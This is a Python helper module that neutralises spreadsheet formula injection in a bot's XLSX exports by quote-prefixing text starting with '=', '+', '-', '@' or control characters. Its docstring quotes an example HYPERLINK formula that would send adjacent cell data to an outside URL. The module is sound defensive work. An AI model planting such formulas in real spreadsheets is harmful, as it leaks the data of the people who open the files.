"""Cells of the XLSX files the bot writes (the report workbook, the registry export): text stays text.

openpyxl stores any string starting with "=" as a formula, and Excel evaluates text starting with "+", "-" or "@"
once someone edits the cell: a difficulty typed as `=HYPERLINK("http://…?d="&C2,"…")` would open on a coordinator's
computer as a live link sending the neighbouring cells away. Every writer hands its values through `sheet_cell`.
Here in `models` so the registry (which may import nothing of the reports) and the reports share it.
"""

from __future__ import annotations

from typing import Any

from openpyxl.cell import Cell
from openpyxl.cell.cell import ERROR_CODES
from openpyxl.styles import Alignment, Font

from models.text import xml_safe

# What spreadsheet programs read as the start of a formula (OWASP's list for CSV injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def sheet_cell(sheet: Any, value: Any, *, number_format: str | None = None, alignment: Alignment | None = None,
               font: Font | None = None) -> Any:
    """What to `append` to `sheet` for `value`: the value itself where it needs nothing, else a cell.

    Text loses the characters an XLSX file cannot hold (one of them would make the whole file fail to save), and
    text that would read as a formula (or as one of Excel's error values) is stored as a string with Excel's quote
    prefix (the `'` Excel shows in front of such text, not part of the value): shown as typed, never evaluated,
    also after an edit. Works for streamed (write-only) and ordinary sheets alike.
    """
    formula_like = False
    if isinstance(value, str):
        value = xml_safe(value)
        formula_like = value.startswith(FORMULA_STARTS) or value in ERROR_CODES  # "#N/A" would be an error cell
    if not formula_like and number_format is None and alignment is None and font is None:
        return value
    cell = Cell(sheet, row=1, column=1, value=value)  # as WriteOnlyCell does; `append` puts it in place
    if formula_like:
        cell.data_type = "s"
        cell.quotePrefix = True
    if number_format is not None:
        cell.number_format = number_format
    if alignment is not None:
        cell.alignment = alignment
    if font is not None:
        cell.font = font
    return cell
